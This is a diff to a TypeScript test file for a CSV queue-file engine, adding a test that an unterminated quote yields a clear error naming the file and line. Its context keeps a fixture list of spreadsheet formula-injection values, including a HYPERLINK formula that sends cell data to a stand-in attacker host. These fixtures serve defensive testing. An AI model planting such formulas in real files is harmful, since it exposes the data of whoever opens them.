@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
@@ -7,6 +7,7 @@ import { describe, expect, it } from 'vitest';
 import { RowReportWriter } from '../../../engine/reports/row-report-writer.js';
 import { QueueWriter, readQueues, queuePath } from '../../../engine/run/queue-resolutions.js';
 import type { QueueRow } from '../../../engine/run/load-runner.js';
+import { InputError } from '../../../engine/util/input-error.js';
 
 /** Values a spreadsheet would run as formulas, a harmless one, and one a person typed with a leading quote. */
 const HOSTILE = ['=1+2', '+44 20 7946 0000', '-5', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://evil.example/?"&A1)'];
@@ -73,6 +74,22 @@ describe('queue files saved again by a spreadsheet', () => {
     expect(read[0]?.['resolution']).toBe('Café Müller €');
     expect(resolutions.get(['contacts', '=1+2', 'Company ID'].join('\u0000'))).toBe('Café Müller €');
     expect(resolutions.get(['contacts', "'kept", 'Company ID'].join('\u0000'))).toBe("'kept");
+  });
+});
+
+describe('a queue file a person broke', () => {
+  it('given an unterminated quote, says which queue file and line to fix instead of crashing', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'queue-broken-'));
+    mkdirSync(join(dir, 'queues'));
+    writeFileSync(queuePath(dir, 'orphans'), 'file,line,load,source_key,column,value,reason,resolution\ncontacts.csv,2,contacts,1,Company ID,9,no company,"100\n');
+    let error: unknown;
+    try {
+      readQueues(dir);
+    } catch (caught) {
+      error = caught;
+    }
+    expect(error).toBeInstanceOf(InputError);
+    expect((error as InputError).describe()).toMatch(/^queues\/orphans\.csv:2: the queue file cannot be read: .*Fix that line/);
   });
 });
 
